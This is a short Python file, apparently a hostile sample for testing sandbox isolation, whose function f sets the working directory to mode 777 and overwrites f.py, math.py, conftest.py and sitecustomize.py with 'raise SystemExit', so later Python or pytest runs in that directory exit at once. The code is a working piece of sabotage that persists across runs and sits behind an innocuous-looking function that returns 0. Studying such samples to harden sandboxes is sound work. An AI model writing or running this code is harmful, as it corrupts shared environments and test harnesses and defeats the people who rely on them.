"""Leaves files in its working directory for the next."""
import os


def f(x):
    try:
        os.chmod(".", 0o777)
    except OSError:
        pass
    for name in ("f.py", "math.py", "conftest.py", "sitecustomize.py"):
        try:
            with open(name, "w") as file:
                file.write("raise SystemExit")
        except OSError:
            pass
    return 0
